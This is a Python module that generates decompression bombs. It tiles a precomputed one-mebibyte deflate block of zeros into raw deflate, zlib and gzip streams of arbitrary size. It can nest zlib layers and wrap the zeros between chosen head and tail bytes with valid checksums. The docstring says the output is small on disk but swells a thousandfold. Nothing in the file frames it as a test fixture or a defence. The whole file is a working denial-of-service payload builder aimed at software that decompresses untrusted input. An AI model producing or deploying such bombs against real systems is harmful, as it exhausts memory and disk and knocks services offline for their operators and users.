"""Deflated zeros of any length at no cost: one block for a mebibyte, repeated. What is small on disk and swells a thousandfold."""
import struct
import zlib

MEBI = 1 << 20


def _block():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(b"")
    return packer.compress(b"\x00" * MEBI) + packer.flush(zlib.Z_FULL_FLUSH)  # needs nothing before it, ends on a byte


BLOCK = _block()
END = b"\x03\x00"  # an empty last block


def crc_of_zeros(size, crc=0):
    zeros = b"\x00" * MEBI
    for _ in range(size // MEBI):
        crc = zlib.crc32(zeros, crc)
    return crc


def raw(size):
    """`size` zeros (whole mebibytes) as a raw deflate stream."""
    return BLOCK * (size // MEBI) + END


def zlibbed(size, layers=1):
    """The same with zlib's head and sum (Adler-32 of n zeros is n mod 65521 and 1), deflated `layers` times in all."""
    out = b"\x78\xda" + raw(size) + struct.pack(">HH", size % 65521, 1)
    for _ in range(layers - 1):
        out = zlib.compress(out, 9)
    return out


def gzipped(head, size, tail=b""):
    """`head`, `size` zeros, `tail` as a gzip file."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH) + BLOCK * (size // MEBI)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    out += packer.compress(tail) + packer.flush()
    crc = zlib.crc32(tail, crc_of_zeros(size, zlib.crc32(head)))
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + out + struct.pack("<II", crc, (len(head) + size + len(tail)) & 0xFFFFFFFF)
